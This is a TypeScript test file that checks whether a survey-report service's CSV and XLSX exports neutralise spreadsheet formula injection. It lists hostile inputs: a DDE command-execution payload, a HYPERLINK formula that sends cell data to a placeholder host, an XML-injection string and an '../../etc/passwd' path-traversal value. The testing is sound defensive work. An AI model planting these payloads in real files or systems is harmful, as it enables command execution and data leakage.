import { parse } from "csv-parse/sync";
import { readXlsx } from "hucre/xlsx";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { fileNamePart, inertText, sheetName } from "../../server/reports/exports/inert-text.ts";
import type { House } from "../support/house.ts";
import { openHouse } from "../support/house.ts";
import type { Answer } from "./answered-unit.ts";
import { importScores, skm, visitor } from "./answered-unit.ts";
import { formulasIn, unzip } from "./unzip.ts";

const HOSTILE = [
  "=1+1",
  "+1+1",
  "-2+3",
  "@SUM(A1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\u0000=1+1",
  " =1+1",
  "\u00a0=1+1",
  "\ufeff=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠A1",
  "|calc",
  '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")',
  "=cmd|' /C calc'!A0",
  '"=1+1',
  "'=1+1",
  ";=1+1",
  ",=1+1",
  "</v><f>1+1</f><v>",
];

/** What a spreadsheet would take for a formula. */
const ACTIVE = /^[\s\p{Cc}\u200b\ufeff]*[=+\-@|＝＋－＠]/u;

describe("text that would run in a spreadsheet", () => {
  let house: House;
  let get: (url: string) => Promise<Answer>;

  beforeAll(async () => {
    house = await openHouse();
    const unit = await house.make.unit({ code: "jahat", name: "=1+1 @Dinas" });
    const services = await Promise.all(HOSTILE.map((name) => house.make.service(unit, `${name} ${HOSTILE.indexOf(name)}`)));
    await importScores(
      house,
      unit,
      "skm@1",
      services.map(({ id }, at) => ({ answers: skm(3), serviceId: id, comment: HOSTILE[at]! })),
    );
    get = await visitor(house, { role: "head", unit });
  });
  afterAll(() => house.close());

  it.each(["csv", "rekap.csv", "profil.csv", "saran.csv"])("is inert in every cell of %s", async (extension) => {
    const { status, text } = await get(`/laporan/jahat/2026-TW4.${extension}`);
    expect(status).toBe(200);
    const rows = parse(text, { bom: true, delimiter: extension === "csv" ? "," : ";" });
    expect(rows.flat().filter((cell) => ACTIVE.test(cell))).toEqual([]);
    expect(new Set(rows.map((row) => row.length)).size).toBe(1);
  });

  it("keeps its words behind the apostrophe", async () => {
    const rows = parse((await get("/laporan/jahat/2026-TW4.saran.csv")).text, { bom: true, delimiter: ";" }).flat();
    for (const words of ["'=1+1", "'＝1+1", '"=1+1', "'=cmd|' /C calc'!A0", ";=1+1"]) expect(rows).toContain(words);
    expect(rows).toHaveLength(HOSTILE.length + 1);
  });

  it("is a string in the workbook, which has no formula but ours and no way out", async () => {
    const { bytes } = await get("/laporan/jahat/2026-TW4.xlsx");
    const formulas = formulasIn(bytes).map(({ formula }) => formula);
    const ours =
      /^(?:SUM\([A-Z]+\d+:[A-Z]+\d+\)|COUNT\([A-Z]+\d+:[A-Z]+\d+\)|ROUND\(ROUND\([\dA-Z+*/().-]+,10\),[23]\)|IF\([A-Z]+\d+(?:>|&gt;)=[\s\S]*\)|'SKM'![A-Z]+\d+)$/;
    expect(formulas.length).toBeGreaterThan(60);
    expect(formulas.filter((formula) => !ours.test(formula))).toEqual([]);
    const parts = [...unzip(bytes)];
    expect(parts.map(([name]) => name).filter((name) => /externalLink|vba|connections|embeddings/i.test(name))).toEqual([]);
    expect(parts.filter(([, xml]) => /TargetMode="External"|<hyperlink/i.test(xml))).toEqual([]);
    const book = await readXlsx(bytes);
    expect(book.sheets.map((sheet) => sheet.name)).toEqual(["Rekap", "SKM"]);
    expect(book.sheets[0]!.rows[1]![0]).toBe("Unit: =1+1 @Dinas");
  });

  it("gives way in names of sheets and files", () => {
    for (const text of HOSTILE) {
      expect(sheetName(text)).toMatch(/^[^[\]:*?/\\'=+\-@|＝＋－＠\p{Cc}]/u);
      expect(fileNamePart(text)).toMatch(/^[a-z0-9][a-z0-9.-]*$/);
    }
    expect(sheetName("x".repeat(40))).toHaveLength(31);
    expect(sheetName("[]:*?/\\")).toBe("Survei");
    expect(fileNamePart("../../etc/passwd")).toBe("etc-passwd");
  });

  it("leaves plain text alone", () => {
    for (const text of ["Poli Umum", "Loket 2 (lantai 1)", "50% lebih cepat", "", "2026-11-22", "U3.1"])
      expect(inertText(text)).toBe(text);
  });
});
